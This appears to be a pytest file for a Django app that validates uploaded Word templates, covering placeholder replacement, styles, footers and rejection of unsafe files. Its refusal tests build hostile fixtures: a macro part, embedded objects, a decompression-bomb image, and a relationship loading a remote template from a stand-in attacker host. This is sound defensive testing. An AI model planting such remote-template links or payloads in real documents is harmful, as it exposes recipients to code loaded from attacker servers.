"""The authority's own Word template: kept styles, replaced words, and what is refused."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from io import BytesIO
from typing import Any

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from test_documents import DOCUMENT, IMPRINT, word_of

from headway.web.design.documents.word_template import LARGEST, TemplateRefused, check


def template(*paragraphs: str, header: str = "", footer: str = "") -> bytes:
    """A Word file as an authority makes one."""
    made = docx.Document()
    made.styles["Heading 1"].font.name = "Comic Sans MS"
    for text in paragraphs:
        made.add_paragraph(text)
    made.sections[0].header.paragraphs[0].text = header
    if footer:
        made.sections[0].footer.paragraphs[0].text = footer
    into = BytesIO()
    made.save(into)
    return into.getvalue()


def changed(content: bytes, **parts: bytes) -> bytes:
    """The same file with these parts added or replaced."""
    into = BytesIO()
    with (
        zipfile.ZipFile(BytesIO(content)) as before,
        zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as after,
    ):
        for part in before.infolist():
            if part.filename not in parts:
                after.writestr(part, before.read(part))
        for name, value in parts.items():
            after.writestr(name, value)
    return into.getvalue()


def test_the_templates_styles_header_and_words_are_kept_and_placeholders_replaced() -> None:
    base = template(
        "Northmoor Council", "{{title}}, {{ subtitle }}", "{{content}}", "The end", header="For {{audience}}"
    )
    check(base)
    made = word_of(template=base)
    texts = [paragraph.text for paragraph in made.paragraphs]
    assert texts[:2] == ["Northmoor Council", "Oak & Ash Primary School, Making figures speak"]
    assert texts[-1] == "The end"
    assert "{{" not in "".join(texts)
    assert texts.index("Attainment") < texts.index("The end")
    assert made.sections[0].header.paragraphs[0].text == "For governors of the school"
    assert made.styles["Heading 1"].font.name == "Comic Sans MS"


def test_without_a_place_for_it_the_content_comes_at_the_end_with_its_title() -> None:
    made = word_of(template=template("Cover page"))
    texts = [paragraph.text for paragraph in made.paragraphs]
    assert texts[0] == "Cover page"
    assert "Oak & Ash Primary School" in texts
    assert texts.index("Cover page") < texts.index("Attainment")


def test_a_placeholder_that_word_split_over_several_runs_is_replaced() -> None:
    made = docx.Document()
    paragraph = made.add_paragraph()
    for piece in ("{{ti", "tl", "e}}"):
        paragraph.add_run(piece).bold = True
    into = BytesIO()
    made.save(into)
    assert word_of(template=into.getvalue()).paragraphs[0].text == "Oak & Ash Primary School"


def test_every_page_says_for_whom_it_is_whatever_the_template_has_in_its_footer() -> None:
    kept = word_of(template=template("{{content}}", footer="County Hall")).sections[0].footer
    assert [
        paragraph.text.startswith(start)
        for paragraph, start in zip(kept.paragraphs, ("County Hall", IMPRINT.line), strict=True)
    ]
    own = word_of(template=template("{{content}}", footer="{{imprint}}")).sections[0].footer
    assert [paragraph.text for paragraph in own.paragraphs] == [IMPRINT.line]


def test_every_kind_of_page_of_a_template_says_for_whom_it_is() -> None:
    made = docx.Document()
    made.sections[0].different_first_page_header_footer = True
    made.settings.odd_and_even_pages_header_footer = True
    into = BytesIO()
    made.save(into)
    section = word_of(template=into.getvalue()).sections[0]
    for foot in (section.footer, section.first_page_footer, section.even_page_footer):
        assert IMPRINT.line in "".join(paragraph.text for paragraph in foot.paragraphs)


def test_a_template_without_a_style_is_given_it() -> None:
    made = docx.Document()
    for name in ("Heading 1", "List Bullet", "Caption", "Title"):
        made.styles[name].delete()
    into = BytesIO()
    made.save(into)
    styles = {paragraph.style.name for paragraph in word_of(template=into.getvalue()).paragraphs}
    assert {"Heading 1", "List Bullet", "Caption", "Title"} <= styles


PLAIN = template("{{content}}")
TYPES = "[Content_Types].xml"


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"", "cannot be read"),
        (b"not a zip at all", "cannot be read"),
        (PLAIN[:2000], "cannot be read"),
        (changed(PLAIN, **{"word/document.xml": b"<broken"}), "cannot be read"),
        (changed(PLAIN, **{"word/vbaProject.bin": b"x"}), "macros"),
        (changed(PLAIN, **{"word/VBAPROJECT.BIN": b"x"}), "macros"),
        (changed(PLAIN, **{"word/embeddings/object1.bin": b"x"}), "embedded objects"),
        (changed(PLAIN, **{"word/activeX/activeX1.xml": b"x"}), "embedded objects"),
        (
            changed(
                PLAIN,
                **{"word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                   b'relationships"><Relationship Id="r1" Type="http://x/attachedTemplate" '
                   b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'},
            ),
            "from elsewhere",
        ),
        (template("{{titel}}"), r"does not exist: \{\{titel\}\}"),
        (b"x" * (LARGEST + 1), "larger than 5 MB"),
        (changed(PLAIN, **{"word/media/bomb.png": b"0" * (10 * LARGEST + 1)}), "too large when unpacked"),
    ],
)  # fmt: skip
def test_what_cannot_be_a_template_is_refused_with_the_reason(content: bytes, why: str) -> None:
    with pytest.raises(TemplateRefused, match=why):
        check(content)


def test_a_spreadsheet_is_no_template() -> None:
    from headway.web.design.documents import written

    with pytest.raises(TemplateRefused, match="not a Word document"):
        check(written(DOCUMENT, "xlsx"))


@pytest.mark.django_db
def test_the_administrator_uploads_and_removes_it(
    client_of: Callable[..., Client], settings: Any, tmp_path: Any, django_capture_on_commit_callbacks: Any
) -> None:
    from headway.web.audit.models import AuditEvent
    from headway.web.packs import templates_of_word

    default = {**settings.STORAGES["default"], "OPTIONS": {"location": tmp_path}}
    settings.STORAGES = {**settings.STORAGES, "default": default}
    client = client_of("administrator")
    refused = client.post("/packs/template/", {"file": SimpleUploadedFile("t.docm", b"PK")})
    assert "cannot be read as a Word document" in refused.content.decode()
    assert templates_of_word.content() is None
    client.post("/packs/template/", {"file": SimpleUploadedFile("ours.docx", PLAIN)})
    assert templates_of_word.content() == PLAIN
    assert "ours.docx" in client.get("/packs/template/").content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/packs/template/remove/")
    assert templates_of_word.content() is None
    verbs = list(AuditEvent.objects.filter(verb__contains="Word template").values_list("verb", flat=True))
    assert sorted(verbs) == ["changed the Word template", "took the Word template away"]
